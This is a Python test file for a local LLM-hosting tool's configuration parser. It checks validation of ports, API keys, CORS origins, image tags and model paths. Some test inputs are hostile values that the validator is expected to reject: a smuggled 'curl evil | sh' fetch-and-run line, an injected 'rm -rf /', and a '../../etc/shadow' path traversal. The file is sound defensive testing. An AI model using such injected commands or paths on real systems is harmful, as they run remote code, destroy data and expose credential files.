import pytest

from llmhost.errors import LlmhostError
from llmhost.plan.config import load_config, parse_config


def test_defaults():
    cfg = parse_config(None)
    # None: the plan sizes them to the host
    # (tests/unit/plan/test_plan.py::test_default_inference_cores).
    assert cfg.inference_cores is None and cfg.profile is None
    assert {n: s.port for n, s in cfg.services.items()} == {
        "llama-cpu": 8001,
        "llama-gpu": 8004,
        "vllm-gpu": 8005,
    }


def test_overrides_merge_with_defaults():
    cfg = parse_config(
        {
            "services": {"llama-cpu": {"model": "m.gguf", "ctx_size": 8192}},
            "hugepages": {"headroom_pct": 20},
        }
    )
    svc = cfg.services["llama-cpu"]
    assert (svc.port, svc.model, svc.ctx_size) == (8001, "m.gguf", 8192)
    assert cfg.hugepages.headroom_pct == 20 and cfg.hugepages.enabled is True


@pytest.mark.parametrize(
    ("data", "message"),
    [
        ({"inference_core": 4}, "config: unknown key 'inference_core'"),
        ({"services": {"llama-cpu": {"prot": 1}}}, "unknown key 'services.llama-cpu.prot'"),
        ({"services": {"llama-tpu": {}}}, "unknown key 'services.llama-tpu'"),
        ({"inference_cores": "twelve"}, "inference_cores must be an integer from 1 to 1024"),
        ({"inference_cores": True}, "inference_cores must be an integer"),
        ({"profile": "tpu"}, "profile must be one of cpu, gpu, all (got 'tpu')"),
        ({"services": {"llama-cpu": {"port": 70000}}}, "services.llama-cpu.port must be"),
        ({"services": {"llama-cpu": {"port": 8004}}}, "services ports must differ"),
        ({"hugepages": {"enabled": "yes"}}, "hugepages.enabled must be true or false"),
        ({"hugepages": {"enabled": 1}}, "hugepages.enabled must be true or false"),
        ({"services": {"llama-cpu": {"mlock": "yes"}}}, "services.llama-cpu.mlock must be true or"),
        ({"services": {"llama-gpu": {"mlock": True}}},
         "services.llama-gpu.mlock is a CPU setting; llama-gpu keeps its weights on the GPU"),
        ({"services": {"vllm-gpu": {"mlock": True}}}, "services.vllm-gpu.mlock is a llama.cpp"),
        ({"services": {"llama-cpu": {"cache_type": "q3"}}}, "cache_type must be one of"),
        ({"bind_address": "0.0.0.0"}, "api_key is required when bind_address is 0.0.0.0"),
        ({"bind_address": "localhost"}, "bind_address must be an IP address"),
        ({"bench": {"requests": 0}}, "bench.requests must be an integer from 1"),
        ({"cors_origin": "http://a.example,http://b.example"}, "cors_origin must be localhost"),
        ({"cors_origin": "http://a.example/app"}, "no path"),
        ({"cors_origin": "a.example"}, "cors_origin must be localhost, * or one origin"),
        ({"cors_origin": ["*"]}, "cors_origin must be a non-empty string"),
        ([1, 2], "must be a mapping"),
    ],
)
def test_bad_values_name_the_key(data, message):
    with pytest.raises(LlmhostError) as exc:
        parse_config(data)
    assert message in str(exc.value)
    assert "\n" not in str(exc.value)
    assert exc.value.exit_code == 2


@pytest.mark.parametrize(
    ("key", "message"),
    [
        ("s3cret-short-key", "api_key is too short (16 characters; at least 32)"),
        ("a" * 31 + ",", "without spaces, quotes, backslashes or commas"),
        ("a" * 31 + "'", "without spaces, quotes, backslashes or commas"),
        ("a" * 31 + "\n", "without spaces, quotes, backslashes or commas"),
        (12345, "api_key must be a string"),
    ],
)
def test_weak_keys_are_refused_without_echoing_them(key, message):
    with pytest.raises(LlmhostError) as exc:
        parse_config({"bind_address": "0.0.0.0", "api_key": key})
    assert message in str(exc.value) and exc.value.exit_code == 2
    if isinstance(key, str):
        assert key.strip() not in str(exc.value)


def test_public_bind_with_key_is_fine():
    key = "k" * 32
    cfg = parse_config({"bind_address": "0.0.0.0", "api_key": key})
    assert cfg.api_key == key


def test_load_file_errors(tmp_path):
    with pytest.raises(LlmhostError, match="does not exist"):
        load_config(str(tmp_path / "missing.yaml"))
    bad = tmp_path / "bad.yaml"
    bad.write_text("services: [\n")
    with pytest.raises(LlmhostError, match="not valid YAML at line"):
        load_config(str(bad))
    good = tmp_path / "ok.yaml"
    good.write_text("inference_cores: 4\n")
    assert load_config(str(good)).inference_cores == 4


@pytest.mark.parametrize(
    ("data", "message"),
    [
        ({"images": {"base_image": "debian:bookworm\nRUN curl evil | sh"}},
         "images.base_image must be an image reference"),
        ({"images": {"vllm_version": "latest"}}, "images.vllm_version must be a release"),
        ({"images": {"llama_ref": "master"}}, "images.llama_ref must be a llama.cpp release tag"),
        ({"images": {"vllm_version": "nightly"}},
         "images.vllm_version must be a release like v0.33.0, not a moving tag (got 'nightly')"),
        ({"images": {"vllm_version": "main"}}, "images.vllm_version must be a release like"),
        ({"images": {"vllm_version": "3f1a9c2e4b5d"}},
         "images.vllm_version must be a release like v0.33.0, not a commit"),
        ({"images": {"vllm_version": ""}}, "images.vllm_version must be a non-empty string"),
        ({"images": {"llama_ref": "latest"}}, "release tag like b10864, not a moving tag"),
        ({"images": {"llama_ref": "0c1e57098"}},
         "images.llama_ref must be a llama.cpp release tag like b10864, not a commit"),
        ({"images": {"cuda_version": "latest"}},
         "images.cuda_version must be a CUDA version like 13.0.1, not a moving tag"),
        ({"services": {"llama-cpu": {"model": "../../etc/shadow"}}},
         "services.llama-cpu.model must be a file or directory under models_dir"),
        ({"services": {"llama-cpu": {"model": "/abs/m.gguf"}}}, "model must be a file"),
        ({"services": {"vllm-gpu": {"model": "${HOME}/m"}}}, "model must be a file"),
        ({"models_dir": "/"}, "models_dir must not be /"),
        ({"models_dir": "models"}, "models_dir must be an absolute path"),
        ({"project": "Prod Stack"}, "project must be lower-case letters"),
    ],
)  # fmt: skip
def test_values_that_reach_templates_and_paths_are_shaped(data, message):
    with pytest.raises(LlmhostError) as exc:
        parse_config(data)
    assert message in str(exc.value) and exc.value.exit_code == 2
    assert "\n" not in str(exc.value)


def test_cli_options_that_reach_the_dockerfile_are_shaped(tmp_path):
    from click.testing import CliRunner

    from llmhost.cli.main import cli

    cfg = tmp_path / "llmhost.yaml"
    cfg.write_text("inference_cores: 1\n")
    for option, value in (("--llama-ref", "b1; rm -rf /"), ("--base-image", "x\nRUN evil")):
        result = CliRunner().invoke(cli, ["--config", str(cfg), "build", option, value])
        assert result.exit_code == 2, result.output
        assert result.output.startswith(f"llmhost: {option} must be")  # not from the config
        assert len(result.output.strip().splitlines()) == 1


@pytest.mark.parametrize(
    "origin",
    ["localhost", "*", "http://192.168.1.5:3000", "https://chat.example.org", "http://[::1]:8080"],
)
def test_cors_origins_accepted(origin):
    assert parse_config({"cors_origin": origin}).cors_origin == origin
    assert parse_config({}).cors_origin == "localhost"
